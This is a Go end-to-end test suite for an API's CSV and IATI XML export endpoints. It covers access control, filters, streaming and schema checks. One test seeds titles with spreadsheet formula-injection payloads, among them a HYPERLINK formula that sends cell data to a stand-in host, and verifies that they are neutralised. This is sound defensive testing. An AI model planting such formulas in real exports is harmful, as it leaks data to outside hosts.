package e2e

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/itcoalition/api/internal/apptest"
	"github.com/itcoalition/api/internal/auth"
	"github.com/itcoalition/api/internal/coalition"
	exportpkg "github.com/itcoalition/api/internal/export"
	"github.com/itcoalition/api/internal/sqlite"
)

// export GETs /export/<path> with token (none when empty).
func export(t *testing.T, s *apptest.Server, token, path string) (int, http.Header, []byte) {
	t.Helper()
	req, _ := http.NewRequest(http.MethodGet, s.HTTP.URL+"/export/"+path, nil)
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := s.HTTP.Client().Do(req)
	if err != nil {
		t.Fatalf("GET %s: %v", path, err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatalf("GET %s: read: %v", path, err)
	}
	return resp.StatusCode, resp.Header, b
}

// table is a CSV report read back: its header and its rows by column name.
type table struct {
	header []string
	rows   []map[string]string
}

func (tb table) column(name string) []string {
	out := make([]string, len(tb.rows))
	for i, r := range tb.rows {
		out[i] = r[name]
	}
	return out
}

// exportCSV GETs a CSV report that must succeed and parses it strictly
// (RFC 4180, every record as long as the header).
func exportCSV(t *testing.T, s *apptest.Server, token, path string) table {
	t.Helper()
	status, h, body := export(t, s, token, path)
	if status != http.StatusOK {
		t.Fatalf("GET %s: status %d: %s", path, status, body)
	}
	if ct := h.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv; charset=utf-8") {
		t.Errorf("GET %s: Content-Type %q", path, ct)
	}
	name := strings.SplitN(path, "?", 2)[0]
	if cd := h.Get("Content-Disposition"); cd != `attachment; filename="`+name+`"` {
		t.Errorf("GET %s: Content-Disposition %q", path, cd)
	}
	body, ok := bytes.CutPrefix(body, []byte("\ufeff"))
	if !ok {
		t.Errorf("GET %s: no UTF-8 byte order mark", path)
	}
	if len(body) > 0 && !bytes.HasSuffix(body, []byte("\r\n")) {
		t.Errorf("GET %s: records do not end in CRLF", path)
	}
	recs, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("GET %s: not RFC 4180 CSV: %v", path, err)
	}
	if len(recs) == 0 {
		t.Fatalf("GET %s: no header row", path)
	}
	tb := table{header: recs[0]}
	for _, rec := range recs[1:] {
		row := map[string]string{}
		for i, c := range rec {
			row[tb.header[i]] = c
		}
		tb.rows = append(tb.rows, row)
	}
	return tb
}

// errorCode is the extensions.code of an error document.
func errorCode(t *testing.T, body []byte) string {
	t.Helper()
	var doc struct {
		Errors []apptest.Error `json:"errors"`
	}
	if err := json.Unmarshal(body, &doc); err != nil || len(doc.Errors) != 1 {
		t.Fatalf("not one error document: %s", body)
	}
	return doc.Errors[0].Code()
}

var reportNames = []string{"contributions.csv", "orders.csv", "requests.csv", "audit.csv", "receipts.csv", "iati.xml"}

func TestExportGuard(t *testing.T) {
	s := apptest.Start(t)
	valid := s.TokenFor("x", "chair", "EE")
	for _, name := range reportNames {
		status, h, body := export(t, s, "", name)
		if status != http.StatusUnauthorized || errorCode(t, body) != "UNAUTHENTICATED" || h.Get("WWW-Authenticate") == "" {
			t.Errorf("%s without a token: %d %s", name, status, body)
		}
		status, _, body = export(t, s, valid[:len(valid)-4]+"AAAA", name)
		if status != http.StatusUnauthorized {
			t.Errorf("%s with a bad signature: %d %s", name, status, body)
		}
	}
	// A nation that is not a member may not use a member's token.
	if status, _, body := export(t, s, s.Token("member", "GB"), "orders.csv"); status != http.StatusForbidden || errorCode(t, body) != "FORBIDDEN" {
		t.Errorf("member token of an observer nation: %d %s", status, body)
	}
	req, _ := http.NewRequest(http.MethodPost, s.HTTP.URL+"/export/orders.csv", nil)
	req.Header.Set("Authorization", "Bearer "+s.Token("chair", "EE"))
	if r := s.Do(req); r.Status != http.StatusMethodNotAllowed || r.Header.Get("Allow") != "GET" {
		t.Errorf("POST: %d, Allow %q", r.Status, r.Header.Get("Allow"))
	}
	if status, _, body := export(t, s, s.Token("chair", "EE"), "fund.csv"); status != http.StatusNotFound || errorCode(t, body) != "NOT_FOUND" {
		t.Errorf("unknown report: %d %s", status, body)
	}
}

func TestExportRowsFollowThePolicies(t *testing.T) {
	s := apptest.Start(t)
	chairTok, memberTok, obsTok, modTok := s.Token("chair", "EE"), s.Token("member", "DK"), s.Token("observer", "GB"), s.Token("mod", "UA")

	// A member's export holds its own nation's contributions, as many as
	// its query counts, and no other nation's.
	mine := exportCSV(t, s, memberTok, "contributions.csv")
	if len(mine.rows) == 0 {
		t.Fatal("member DK exported no contribution")
	}
	for _, n := range mine.column("nation") {
		if n != "DK" {
			t.Errorf("member DK's export holds a contribution of %s", n)
		}
	}
	var q struct{ Contributions struct{ TotalCount int } }
	s.MustQuery(memberTok, `{ contributions { totalCount } }`, nil, &q)
	if len(mine.rows) != q.Contributions.TotalCount {
		t.Errorf("member DK: %d rows exported, the query counts %d", len(mine.rows), q.Contributions.TotalCount)
	}
	all := exportCSV(t, s, chairTok, "contributions.csv")
	if nations := slices.Compact(slices.Sorted(slices.Values(all.column("nation")))); len(nations) < 5 {
		t.Errorf("a chair's export holds the contributions of %v only", nations)
	}

	// An observer reads orders without amount and supplier.
	obs := exportCSV(t, s, obsTok, "orders.csv")
	if len(obs.rows) == 0 {
		t.Fatal("observer exported no order")
	}
	for _, col := range []string{"amount", "supplier"} {
		if !slices.Contains(obs.header, col) {
			t.Fatalf("orders.csv has no %s column: %v", col, obs.header)
		}
		for i, v := range obs.column(col) {
			if v != "" {
				t.Errorf("observer's orders.csv row %d: %s %q, want empty", i, col, v)
			}
		}
	}
	chairOrders := exportCSV(t, s, chairTok, "orders.csv")
	if len(chairOrders.rows) != len(obs.rows) || slices.Contains(chairOrders.column("amount"), "") || slices.Contains(chairOrders.column("supplier"), "") {
		t.Errorf("a chair's orders.csv must hold the same %d orders with amount and supplier: %v", len(obs.rows), chairOrders.rows)
	}

	// Requests: an observer sees no estimated cost and no request that is
	// not approved on; the Ministry sees its drafts.
	obsReqs := exportCSV(t, s, obsTok, "requests.csv")
	for _, r := range obsReqs.rows {
		if r["estimated_cost"] != "" || !slices.Contains([]string{"APPROVED", "IN_PROCUREMENT", "FULFILLED"}, r["status"]) {
			t.Errorf("observer's requests.csv row %v", r)
		}
	}
	if !slices.Contains(exportCSV(t, s, modTok, "requests.csv").column("status"), "DRAFT") {
		t.Error("the Ministry's requests.csv has no draft")
	}

	// A role that may not read a list is refused, as its query is, and the
	// refusal is audited.
	before := auditCount(t, s)
	for _, tc := range []struct{ token, path string }{{obsTok, "contributions.csv"}, {modTok, "contributions.csv"}, {obsTok, "audit.csv"}} {
		status, h, body := export(t, s, tc.token, tc.path)
		if status != http.StatusForbidden || errorCode(t, body) != "FORBIDDEN" || h.Get("Content-Disposition") != "" {
			t.Errorf("%s: %d %s", tc.path, status, body)
		}
	}
	if got := auditCount(t, s) - before; got != 3 {
		t.Errorf("3 refused exports wrote %d audit events, want 3", got)
	}

	// A member's audit export holds the events its query shows (those about
	// its own nation), fewer than a chair's.
	s.MustQuery(memberTok, `mutation { pledgeContribution(input: {kind: FINANCIAL, amount: "10.00", currency: "EUR", eurAmount: "10.00"}) { id } }`, nil, nil)
	var al struct{ AuditLog struct{ TotalCount int } }
	s.MustQuery(memberTok, `{ auditLog { totalCount } }`, nil, &al)
	memberAudit, chairAudit := exportCSV(t, s, memberTok, "audit.csv"), exportCSV(t, s, chairTok, "audit.csv")
	if len(memberAudit.rows) == 0 || len(memberAudit.rows) != al.AuditLog.TotalCount || len(memberAudit.rows) >= len(chairAudit.rows) {
		t.Errorf("member DK's audit.csv: %d rows, its query counts %d, a chair's has %d", len(memberAudit.rows), al.AuditLog.TotalCount, len(chairAudit.rows))
	}
}

func TestExportFilters(t *testing.T) {
	s := apptest.Start(t)
	chairTok := s.Token("chair", "EE")
	count := func(query string) int {
		var out map[string]struct{ TotalCount int }
		s.MustQuery(chairTok, "{ list: "+query+" { totalCount } }", nil, &out)
		return out["list"].TotalCount
	}
	for _, tc := range []struct {
		path, query, col, want string
	}{
		{"contributions.csv?status=RECEIVED", "contributions(status: RECEIVED)", "status", "RECEIVED"},
		{"contributions.csv?nation=DK", `contributions(nation: "DK")`, "nation", "DK"},
		{"contributions.csv?earmark=CYBERSECURITY", "contributions(earmark: CYBERSECURITY)", "earmark", "CYBERSECURITY"},
		{"contributions.csv?kind=IN_KIND", "contributions(kind: IN_KIND)", "kind", "IN_KIND"},
		{"requests.csv?area=COMMUNICATIONS&phase=1", "requests(area: COMMUNICATIONS, phase: 1)", "area", "COMMUNICATIONS"},
		{"requests.csv?status=APPROVED", "requests(status: APPROVED)", "status", "APPROVED"},
		{"orders.csv?status=PLACED", "orders(status: PLACED)", "status", "PLACED"},
	} {
		tb := exportCSV(t, s, chairTok, tc.path)
		if len(tb.rows) == 0 {
			t.Errorf("%s: no rows; the filter proves nothing", tc.path)
		}
		for _, v := range tb.column(tc.col) {
			if v != tc.want {
				t.Errorf("%s: a row with %s %q", tc.path, tc.col, v)
			}
		}
		if want := count(tc.query); len(tb.rows) != want {
			t.Errorf("%s: %d rows, the query counts %d", tc.path, len(tb.rows), want)
		}
	}
	// orders.csv?request=ID holds that request's orders only.
	orders := exportCSV(t, s, chairTok, "orders.csv")
	req := orders.rows[0]["request"]
	for _, r := range exportCSV(t, s, chairTok, "orders.csv?request="+req).rows {
		if r["request"] != req {
			t.Errorf("orders.csv?request=%s holds an order of %s", req, r["request"])
		}
	}
	// audit.csv?action=... holds that action only.
	s.MustQuery(chairTok, `mutation { suspendNation(code: "IS", reason: "test") { code } }`, nil, nil)
	for _, r := range exportCSV(t, s, chairTok, "audit.csv?action=suspendNation").rows {
		if r["action"] != "suspendNation" {
			t.Errorf("audit.csv?action=suspendNation holds %v", r)
		}
	}

	// Bad input: 400 with one clear error and no file.
	for _, path := range []string{
		"contributions.csv?status=NOPE", "contributions.csv?nation=dk", "contributions.csv?earmark=",
		"contributions.csv?kind=CASH", "contributions.csv?colour=red", "contributions.csv?status=PLEDGED&status=RECEIVED",
		"requests.csv?phase=one", "requests.csv?phase=0", "requests.csv?area=SPACE", "orders.csv?status=LOST",
		"audit.csv?action=", "audit.csv?target=" + strings.Repeat("x", 201), "iati.xml?nation=DK", "orders.csv?%zz",
	} {
		status, h, body := export(t, s, chairTok, path)
		if status != http.StatusBadRequest || errorCode(t, body) != "BAD_USER_INPUT" || h.Get("Content-Disposition") != "" {
			t.Errorf("%s: %d %s", path, status, body)
		}
	}
}

func TestExportNeutralisesFormulas(t *testing.T) {
	s := apptest.Start(t)
	modTok := s.Token("mod", "UA")
	titles := []string{`=HYPERLINK("http://x.example/?"&A1,"click")`, "+1+2", "-2+3", "@SUM(A1:A9)", "＝1+1", "Plain, \"quoted\" title"}
	for _, title := range titles {
		s.MustQuery(modTok, `mutation($t: String!) { createRequest(input: {title: $t, description: "d", area: CYBERSECURITY, phase: 1, estimatedCost: "10.00"}) { id } }`,
			map[string]any{"t": title}, nil)
	}
	got := exportCSV(t, s, modTok, "requests.csv?status=DRAFT").column("title")
	for _, title := range titles {
		want := "'" + title
		if strings.HasPrefix(title, "Plain") {
			want = title
		}
		if !slices.Contains(got, want) {
			t.Errorf("title %q exported as none of %q", title, got)
		}
	}
}

// TestExportStreamsInConstantMemory streams 24,000 contributions through
// the export handler on the real service and store, 200 rows a page, and
// measures inside the server, after each page is sent (with a collection
// first), the live heap and the rows the page held. A report that kept its
// rows, or built its file before sending it, would grow by at least the
// size of the file; a streamed one stays flat after the first pages.
func TestExportStreamsInConstantMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("inserts 24,000 rows")
	}
	const n, pageSize = 24000, 200
	s := apptest.Start(t, apptest.WithSeed("none"))
	st := s.App.SQLite
	ctx := context.Background()
	area := coalition.Cybersecurity
	// A transaction is bounded in time (10 s, and the race detector slows
	// the driver many times): 250 rows each.
	var err error
	for from := 0; from < n && err == nil; from += 250 {
		err = st.Atomically(ctx, "contributions", func(ctx context.Context) error {
			for i := from; i < min(n, from+250); i++ {
				c := coalition.Contribution{ID: sqlite.NewID(), NationCode: "EE", Kind: coalition.Financial, Amount: 100000,
					Currency: "EUR", EurAmount: 100000, Earmark: &area, Status: coalition.Pledged,
					PledgedAt: time.Unix(1700000000+int64(i), 0).UTC(), PledgedBy: "seed"}
				if err := st.Contributions().Insert(ctx, c); err != nil {
					return err
				}
			}
			return nil
		})
	}
	if err != nil {
		t.Fatal(err)
	}
	// Written by the handler, read once the response is complete.
	var mu sync.Mutex
	var heap []uint64
	maxRows, pages := 0, 0
	h := exportpkg.New(exportpkg.Config{
		Source: s.App.Service,
		Fail: func(w http.ResponseWriter, r *http.Request, err error) {
			t.Errorf("export refused: %v", err)
			w.WriteHeader(500)
		},
		PageSize: pageSize,
		OnPage: func(rows int) {
			var ms runtime.MemStats
			runtime.GC()
			runtime.ReadMemStats(&ms)
			mu.Lock()
			defer mu.Unlock()
			heap = append(heap, ms.HeapAlloc)
			maxRows, pages = max(maxRows, rows), pages+1
		},
	})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h.ServeHTTP(w, r.WithContext(auth.WithPrincipal(r.Context(), auth.Principal{Sub: "chair-ee", Role: "chair", Nation: "EE"})))
	}))
	defer srv.Close()
	resp, err := srv.Client().Get(srv.URL + "/export/contributions.csv")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	// The client runs in this process too: it counts, and keeps nothing.
	var lines lineCounter
	size, err := io.Copy(&lines, resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	if lines != n+1 {
		t.Fatalf("read %d lines, want %d", lines, n+1)
	}
	srv.Close() // waits for the handler to return
	mu.Lock()
	defer mu.Unlock()
	if maxRows != pageSize || pages != n/pageSize {
		t.Errorf("%d pages of at most %d rows, want %d of %d", pages, maxRows, n/pageSize, pageSize)
	}
	// From the 10th page to the last, 22,000 rows (about 2 MiB of file)
	// pass through the server.
	first, last := heap[9], heap[len(heap)-1]
	peak := slices.Max(heap[9:])
	t.Logf("live heap after page 10: %d KiB, at most %d KiB after any later page, %d KiB after the last; file %d KiB",
		first>>10, peak>>10, last>>10, size>>10)
	if growth := int64(peak) - int64(first); growth > size/8 {
		t.Errorf("the live heap grew by %d KiB while the server sent %d KiB: the report is held in memory", growth>>10, size>>10)
	}
}

// lineCounter counts the lines written to it.
type lineCounter int

func (c *lineCounter) Write(p []byte) (int, error) {
	*c += lineCounter(bytes.Count(p, []byte("\n")))
	return len(p), nil
}

// node is an XML element read back generically.
type node struct {
	XMLName xml.Name
	Attrs   []xml.Attr `xml:",any,attr"`
	Text    string     `xml:",chardata"`
	Nodes   []node     `xml:",any"`
}

func (n node) attr(name string) (string, bool) {
	for _, a := range n.Attrs {
		if a.Name.Local == name || (a.Name.Space == "http://www.w3.org/XML/1998/namespace" && "xml:"+a.Name.Local == name) {
			return a.Value, true
		}
	}
	return "", false
}

func (n node) children(name string) []node {
	var out []node
	for _, c := range n.Nodes {
		if c.XMLName.Local == name {
			out = append(out, c)
		}
	}
	return out
}

// iatiOrder is the order of iati-activity's children in the 2.03 schema
// (those this file may use).
var iatiOrder = []string{"iati-identifier", "reporting-org", "title", "description", "participating-org",
	"other-identifier", "activity-status", "activity-date", "contact-info", "activity-scope", "recipient-country",
	"recipient-region", "location", "sector", "country-budget-items", "humanitarian-scope", "policy-marker",
	"collaboration-type", "default-flow-type", "default-finance-type", "default-aid-type", "default-tied-status",
	"budget", "planned-disbursement", "capital-spend", "transaction"}

var transactionOrder = []string{"transaction-type", "transaction-date", "value", "description", "provider-org",
	"receiver-org", "disbursement-channel", "sector", "recipient-country", "recipient-region", "flow-type",
	"finance-type", "aid-type", "tied-status"}

// checkIATI checks what the file emits against the rules of IATI activity
// standard 2.03 (schema and rulesets, as documented): element order and
// cardinality, required attributes, date and decimal formats, code lists
// of the codes used, identifiers prefixed by the reporting organisation,
// and sector percentages summing to 100 per vocabulary.
func checkIATI(doc node) []string {
	var errs []string
	bad := func(format string, a ...any) { errs = append(errs, fmt.Sprintf(format, a...)) }
	isDate := func(v string) bool { _, err := time.Parse(time.DateOnly, v); return err == nil }
	isDecimal := func(v string) bool { _, err := coalition.ParseMoney(v); return err == nil }
	if doc.XMLName.Local != "iati-activities" {
		bad("root is %s", doc.XMLName.Local)
	}
	if v, _ := doc.attr("version"); v != "2.03" {
		bad("version %q", v)
	}
	if v, ok := doc.attr("generated-datetime"); ok {
		if _, err := time.Parse(time.RFC3339, v); err != nil {
			bad("generated-datetime %q", v)
		}
	}
	if len(doc.Nodes) == 0 {
		bad("no iati-activity")
	}
	ids := map[string]bool{}
	for _, a := range doc.Nodes {
		if a.XMLName.Local != "iati-activity" {
			bad("%s under iati-activities", a.XMLName.Local)
			continue
		}
		if cur, _ := a.attr("default-currency"); cur != "EUR" {
			bad("default-currency %q", cur)
		}
		if lang, _ := a.attr("xml:lang"); lang != "en" {
			bad("xml:lang %q", lang)
		}
		last := -1
		for _, c := range a.Nodes {
			i := slices.Index(iatiOrder, c.XMLName.Local)
			if i < 0 || i < last {
				bad("iati-activity: %s out of the schema's order", c.XMLName.Local)
			}
			last = max(last, i)
		}
		for name, want := range map[string][2]int{"iati-identifier": {1, 1}, "reporting-org": {1, 1}, "title": {1, 1},
			"description": {1, 99}, "participating-org": {1, 99}, "activity-status": {1, 1}, "activity-date": {1, 99}} {
			if n := len(a.children(name)); n < want[0] || n > want[1] {
				bad("iati-activity has %d %s", n, name)
			}
		}
		ro := a.children("reporting-org")
		ref, _ := ro[0].attr("ref")
		if typ, _ := ro[0].attr("type"); ref == "" || typ == "" || len(ro[0].children("narrative")) == 0 {
			bad("reporting-org without ref, type or narrative")
		}
		id := strings.TrimSpace(a.children("iati-identifier")[0].Text)
		if !strings.HasPrefix(id, ref+"-") || ids[id] {
			bad("iati-identifier %q: not prefixed by %q, or repeated", id, ref)
		}
		ids[id] = true
		for _, name := range []string{"title", "description"} {
			for _, el := range a.children(name) {
				if ns := el.children("narrative"); len(ns) == 0 || strings.TrimSpace(ns[0].Text) == "" {
					bad("%s without narrative", name)
				}
			}
		}
		for _, p := range a.children("participating-org") {
			if role, _ := p.attr("role"); !slices.Contains([]string{"1", "2", "3", "4"}, role) {
				bad("participating-org role %q", role)
			}
		}
		if st, _ := a.children("activity-status")[0].attr("code"); st < "1" || st > "6" {
			bad("activity-status %q", st)
		}
		for _, d := range a.children("activity-date") {
			typ, _ := d.attr("type")
			iso, _ := d.attr("iso-date")
			if !slices.Contains([]string{"1", "2", "3", "4"}, typ) || !isDate(iso) {
				bad("activity-date type %q iso-date %q", typ, iso)
			}
		}
		pct := map[string]float64{}
		for _, sc := range a.children("sector") {
			voc, _ := sc.attr("vocabulary")
			code, _ := sc.attr("code")
			p, _ := sc.attr("percentage")
			var f float64
			if _, err := fmt.Sscanf(p, "%g", &f); err != nil {
				bad("sector percentage %q", p)
			}
			pct[voc] += f
			switch voc {
			case "1":
				if !slices.Contains([]string{"22020", "22040"}, code) {
					bad("DAC sector code %q is not one this file maps to", code)
				}
			case "99":
				if len(sc.children("narrative")) == 0 {
					bad("sector of vocabulary 99 without narrative")
				}
			default:
				bad("sector vocabulary %q", voc)
			}
		}
		for voc, sum := range pct {
			if sum != 100 {
				bad("sector percentages of vocabulary %s add up to %g", voc, sum)
			}
		}
		for _, tx := range a.children("transaction") {
			last := -1
			for _, c := range tx.Nodes {
				i := slices.Index(transactionOrder, c.XMLName.Local)
				if i < 0 || i < last || (i == last && c.XMLName.Local != "sector") {
					bad("transaction: %s out of the schema's order or repeated", c.XMLName.Local)
				}
				last = max(last, i)
			}
			if len(tx.children("transaction-type")) != 1 || len(tx.children("transaction-date")) != 1 || len(tx.children("value")) != 1 {
				bad("transaction without one type, date and value")
				continue
			}
			if code, _ := tx.children("transaction-type")[0].attr("code"); !slices.Contains([]string{"1", "2", "11", "13"}, code) {
				bad("transaction type %q", code)
			}
			if iso, _ := tx.children("transaction-date")[0].attr("iso-date"); !isDate(iso) {
				bad("transaction-date %q", iso)
			}
			v := tx.children("value")[0]
			vd, _ := v.attr("value-date")
			cur, _ := v.attr("currency")
			if !isDate(vd) || cur != "EUR" || !isDecimal(strings.TrimSpace(v.Text)) {
				bad("value %q currency %q value-date %q", v.Text, cur, vd)
			}
			for _, name := range []string{"description", "provider-org", "receiver-org"} {
				for _, el := range tx.children(name) {
					if _, hasRef := el.attr("ref"); !hasRef && len(el.children("narrative")) == 0 {
						bad("%s without ref or narrative", name)
					}
				}
			}
		}
	}
	return errs
}

// exportIATI GETs iati.xml, which must succeed, and checks it.
func exportIATI(t *testing.T, s *apptest.Server, token string) (node, []byte) {
	t.Helper()
	status, h, body := export(t, s, token, "iati.xml")
	if status != http.StatusOK || !strings.HasPrefix(h.Get("Content-Type"), "application/xml") ||
		h.Get("Content-Disposition") != `attachment; filename="iati.xml"` {
		t.Fatalf("iati.xml: %d %v %s", status, h, body)
	}
	var doc node
	if err := xml.Unmarshal(body, &doc); err != nil {
		t.Fatalf("iati.xml is not XML: %v", err)
	}
	for _, e := range checkIATI(doc) {
		t.Errorf("iati.xml: %s", e)
	}
	return doc, body
}

// transactions lists the file's transactions as "type provider value".
func transactions(doc node) []string {
	var out []string
	for _, a := range doc.Nodes {
		for _, tx := range a.children("transaction") {
			code, _ := tx.children("transaction-type")[0].attr("code")
			provider := ""
			for _, p := range tx.children("provider-org") {
				provider = p.children("narrative")[0].Text
			}
			out = append(out, code+" "+provider+" "+strings.TrimSpace(tx.children("value")[0].Text))
		}
	}
	return out
}

func TestExportIATI(t *testing.T) {
	s := apptest.Start(t)
	chairDoc, _ := exportIATI(t, s, s.Token("chair", "EE"))
	chairTx := transactions(chairDoc)
	for _, code := range []string{"1 ", "2 ", "11 ", "13 "} {
		if !slices.ContainsFunc(chairTx, func(tx string) bool { return strings.HasPrefix(tx, code) }) {
			t.Errorf("a chair's iati.xml has no transaction of type %s: %v", code, chairTx)
		}
	}
	// Every pool is one activity with its sector.
	if n := len(chairDoc.Nodes); n != len(coalition.Areas)+1 {
		t.Errorf("%d activities, want one per area and one for unearmarked money", n)
	}

	// A member sees its own nation's incoming money only.
	memberDoc, _ := exportIATI(t, s, s.Token("member", "DK"))
	incoming := 0
	for _, tx := range transactions(memberDoc) {
		if !strings.HasPrefix(tx, "2 ") {
			incoming++
			if !strings.HasPrefix(strings.SplitN(tx, " ", 2)[1], "Denmark ") {
				t.Errorf("member DK's iati.xml holds %q", tx)
			}
		}
	}
	if incoming == 0 {
		t.Error("member DK's iati.xml holds none of its own contributions")
	}

	// An observer reads no contribution and no order amount: no
	// transaction at all, and the refusal is not asked (nothing audited).
	before := auditCount(t, s)
	obsDoc, _ := exportIATI(t, s, s.Token("observer", "GB"))
	if tx := transactions(obsDoc); len(tx) != 0 {
		t.Errorf("observer's iati.xml holds %v", tx)
	}
	if got := auditCount(t, s) - before; got != 0 {
		t.Errorf("an observer's iati.xml wrote %d audit events", got)
	}
	// The Ministry sees outgoing commitments, with their suppliers.
	modDoc, _ := exportIATI(t, s, s.Token("mod", "UA"))
	for _, tx := range transactions(modDoc) {
		if !strings.HasPrefix(tx, "2 ") {
			t.Errorf("the Ministry's iati.xml holds an incoming transaction %q", tx)
		}
	}
}

// TestExportIATISchema validates the file with xmllint against the IATI
// 2.03 activity schema at ITC_IATI_SCHEMA (iati-activities-schema.xsd with
// iati-common.xsd and xml.xsd beside it). No package that this project's
// machines can install ships that schema, so it runs only where one is
// given; TestExportIATI checks the rules structurally everywhere.
func TestExportIATISchema(t *testing.T) {
	xsd := os.Getenv("ITC_IATI_SCHEMA")
	if xsd == "" {
		t.Skip("ITC_IATI_SCHEMA is unset: no IATI 2.03 schema to validate against (TestExportIATI checks the structure)")
	}
	if _, err := exec.LookPath("xmllint"); err != nil {
		t.Fatal("ITC_IATI_SCHEMA is set but xmllint is missing (Debian package libxml2-utils)")
	}
	s := apptest.Start(t)
	for _, v := range viewers {
		_, body := exportIATI(t, s, s.Token(v.role, v.nation))
		f := filepath.Join(t.TempDir(), "iati.xml")
		if err := os.WriteFile(f, body, 0o600); err != nil {
			t.Fatal(err)
		}
		out, err := exec.Command("xmllint", "--noout", "--schema", xsd, f).CombinedOutput()
		if err != nil {
			t.Errorf("%s: the file does not validate: %v\n%s", v, err, out)
		}
	}
}

// TestCheckIATIFindsFaults shows that checkIATI refuses what breaks the
// 2.03 rules it checks, so that TestExportIATI can fail.
func TestCheckIATIFindsFaults(t *testing.T) {
	const good = `<iati-activities version="2.03"><iati-activity xml:lang="en" default-currency="EUR">` +
		`<iati-identifier>XI-IATI-ITC-X</iati-identifier><reporting-org ref="XI-IATI-ITC" type="40"><narrative>C</narrative></reporting-org>` +
		`<title><narrative>T</narrative></title><description><narrative>D</narrative></description>` +
		`<participating-org role="2"><narrative>C</narrative></participating-org><activity-status code="2"/>` +
		`<activity-date type="2" iso-date="2024-01-01"/><sector vocabulary="1" code="22040" percentage="100"/>` +
		`<transaction ref="a"><transaction-type code="1"/><transaction-date iso-date="2024-02-01"/>` +
		`<value currency="EUR" value-date="2024-02-01">10.00</value><provider-org><narrative>Denmark</narrative></provider-org></transaction>` +
		`</iati-activity></iati-activities>`
	parse := func(s string) node {
		var n node
		if err := xml.Unmarshal([]byte(s), &n); err != nil {
			t.Fatal(err)
		}
		return n
	}
	if errs := checkIATI(parse(good)); len(errs) > 0 {
		t.Fatalf("a valid file: %v", errs)
	}
	for _, tc := range []struct{ name, old, new string }{
		{"old version", `version="2.03"`, `version="2.02"`},
		{"identifier not prefixed", `<iati-identifier>XI-IATI-ITC-X`, `<iati-identifier>X`},
		{"elements out of order", `<activity-status code="2"/><activity-date type="2" iso-date="2024-01-01"/>`, `<activity-date type="2" iso-date="2024-01-01"/><activity-status code="2"/>`},
		{"no value-date", ` value-date="2024-02-01"`, ``},
		{"sectors not 100", `percentage="100"/>`, `percentage="60"/>`},
		{"unknown transaction type", `<transaction-type code="1"/>`, `<transaction-type code="12"/>`},
		{"no reporting-org type", ` type="40"`, ``},
		{"title without narrative", `<title><narrative>T</narrative></title>`, `<title>T</title>`},
		{"bad date", `iso-date="2024-01-01"`, `iso-date="01/01/2024"`},
	} {
		if !strings.Contains(good, tc.old) {
			t.Fatalf("%s: nothing to change", tc.name)
		}
		if errs := checkIATI(parse(strings.Replace(good, tc.old, tc.new, 1))); len(errs) == 0 {
			t.Errorf("%s: no fault found", tc.name)
		}
	}
}
